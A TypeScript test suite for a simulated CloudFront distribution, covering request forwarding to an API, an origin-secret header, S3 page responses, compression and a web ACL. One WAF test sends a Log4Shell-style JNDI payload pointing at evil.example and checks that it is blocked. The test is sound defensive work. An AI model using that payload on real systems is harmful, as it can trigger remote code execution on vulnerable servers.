import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { LONG, SECRET, startedDistribution } from './started-distribution.ts';

describe('a request for the API', () => {
  it('reaches it whole, under its own name, with who asked at the end of the way it came', async () => {
    const { ask, received } = await startedDistribution();

    const answer = await ask(
      'POST',
      '/v1/sessions?a=1&a=2',
      { authorization: 'Bearer x', 'x-forwarded-for': '203.0.113.9', 'content-type': 'application/json' },
      '{"a":1}',
    );

    expect(answer).toMatchObject({ status: 201, text: 'made' });
    expect(received).toMatchObject([
      {
        method: 'POST',
        url: '/v1/sessions?a=1&a=2',
        body: '{"a":1}',
        headers: {
          authorization: 'Bearer x',
          'content-type': 'application/json',
          host: 'abc.execute-api.us-east-1.amazonaws.com',
          'x-forwarded-for': '203.0.113.9, 127.0.0.1',
        },
      },
    ]);
  });

  it.each([
    ['nothing', {}],
    ['one of its own', { 'x-origin-secret': 'guessed' }],
    ['one of its own in capitals', { 'X-Origin-Secret': 'guessed' }],
    ['several', { 'x-origin-secret': ['guessed', 'again'] }],
  ])("is shown with the distribution's secret, whoever sent %s", async (_what, headers) => {
    const { ask, received } = await startedDistribution();

    await ask('GET', '/v1/me', headers);

    expect(received[0]?.headers['x-origin-secret']).toBe(SECRET);
  });

  it("is answered with the headers of the policy in place of the origin's, and with its cookies", async () => {
    const { ask } = await startedDistribution();

    const { headers } = await ask('GET', '/v1/me');

    expect(headers['x-frame-options']).toBe('DENY');
    expect(headers['set-cookie']).toEqual(['a=1', 'b=2']);
  });

  it('that is a GET with a body is refused, as CloudFront does', async () => {
    const { ask, received } = await startedDistribution();

    expect((await ask('GET', '/v1/me', { 'content-length': '2' }, '{}')).status).toBe(403);
    expect(received).toEqual([]);
  });

  it('is answered 502 where the API cannot be reached', async () => {
    const { ask, closeApi } = await startedDistribution();
    closeApi();

    expect((await ask('GET', '/v1/me')).status).toBe(502);
  });
});

describe('a request for a page', () => {
  it("reads the root object, with the policy's headers and nothing of S3's own", async () => {
    const { ask, received } = await startedDistribution();

    const { status, text, headers } = await ask('GET', '/');

    expect([status, text]).toEqual([200, 'the page']);
    expect(headers).toMatchObject({ 'content-type': 'text/html', 'x-frame-options': 'DENY' });
    expect(headers['x-amz-id-2']).toBeUndefined();
    expect(received).toEqual([]);
  });

  it('has the path that the function makes of it', async () => {
    const code = `function handler(event) { event.request.uri = '/index.html'; return event.request; }`;
    const pages = { kind: 'bucket', bucket: 'pages' } as const;
    const { ask, asked } = await startedDistribution({
      behaviours: [
        {
          pathPattern: undefined,
          origin: pages,
          methods: ['GET'],
          headers: {},
          compresses: false,
          viewerFunction: code,
        },
      ],
    });

    expect((await ask('GET', '/calls/today?x=1')).text).toBe('the page');
    expect(asked).toEqual(['/pages/index.html']);
  });

  it('that is not there is answered as S3 does, and one of another method not at all', async () => {
    const { ask, asked } = await startedDistribution();

    expect((await ask('GET', '/gone.js')).status).toBe(403);
    expect((await ask('POST', '/', {}, 'x')).status).toBe(403);
    expect(asked).toEqual(['/pages/gone.js']);
  });

  it('of HEAD has no body', async () => {
    const { ask } = await startedDistribution();

    expect(await ask('HEAD', '/app.js')).toMatchObject({ status: 200, text: '' });
  });
});

describe('the web ACL', () => {
  const webAcl = [
    {
      kind: 'rate',
      name: 'one-address',
      limit: 2,
      windowSeconds: 300,
      answer: { status: 429, contentType: 'application/json', body: '{"title":"too_many_requests"}' },
    },
    {
      kind: 'managed',
      name: 'inputs',
      group: 'AWSManagedRulesKnownBadInputsRuleSet',
      counted: [],
    },
  ] as const;

  it('answers in place of the origins what comes too often from one address, and lets another in', async () => {
    const { ask, received, time } = await startedDistribution({ webAcl });

    const statuses = [];
    for (let n = 0; n < 3; n += 1) statuses.push((await ask('GET', '/v1/me')).status);
    const refused = await ask('GET', '/');
    const another = await ask('GET', '/v1/me', {}, undefined, '127.0.0.2');
    time.ms = 600_000;
    const later = await ask('GET', '/v1/me');

    expect(statuses).toEqual([201, 201, 429]);
    expect([refused.status, JSON.parse(refused.text)]).toEqual([429, { title: 'too_many_requests' }]);
    expect([another.status, later.status, received.length]).toEqual([201, 201, 4]);
  });

  it('blocks what is known to be bad before anybody sees it', async () => {
    const { ask, received } = await startedDistribution({ webAcl });

    const { status } = await ask('POST', '/v1/sign-up', {}, `{"name":"\${jndi:ldap://evil.example}"}`);

    expect([status, received]).toEqual([403, []]);
  });
});

describe('an answer from the bucket', () => {
  it.each([
    ['gzip', 'gzip, deflate', gunzipSync],
    ['br', 'gzip, deflate, br', brotliDecompressSync],
    ['br', 'br;q=0.5, gzip;q=1', brotliDecompressSync],
    ['gzip', 'br;q=0, gzip', gunzipSync],
  ])('is compressed as %s for a viewer who takes %s', async (coding, accepted, open) => {
    const { ask } = await startedDistribution();

    const { headers, bytes } = await ask('GET', '/long.html', { 'accept-encoding': accepted });

    expect(headers).toMatchObject({ 'content-encoding': coding, vary: 'Accept-Encoding', etag: 'W/"1"' });
    expect(headers['content-length']).toBe(String(bytes.length));
    expect(bytes.length).toBeLessThan(LONG.length / 5);
    expect(open(bytes).toString()).toBe(LONG);
  });

  it.each([
    ['for a viewer who takes none', '/long.html', {}],
    ['for a viewer who refuses it', '/long.html', { 'accept-encoding': 'gzip;q=0, zstd' }],
    ['under a thousand bytes', '/app.js', { 'accept-encoding': 'gzip' }],
  ])('is left as it is %s', async (_what, path, headers) => {
    const { ask } = await startedDistribution();

    const answer = await ask('GET', path, headers);

    expect(answer.headers).not.toHaveProperty('content-encoding');
    expect(answer.headers.etag).toBe('"1"');
    expect([LONG, 'code']).toContain(answer.text);
  });

  it('is left as it is where the behaviour does not compress', async () => {
    const { ask } = await startedDistribution({}, { compresses: false });

    const { headers, text } = await ask('GET', '/long.html', { 'accept-encoding': 'gzip' });

    expect([headers['content-encoding'], text]).toEqual([undefined, LONG]);
  });
});
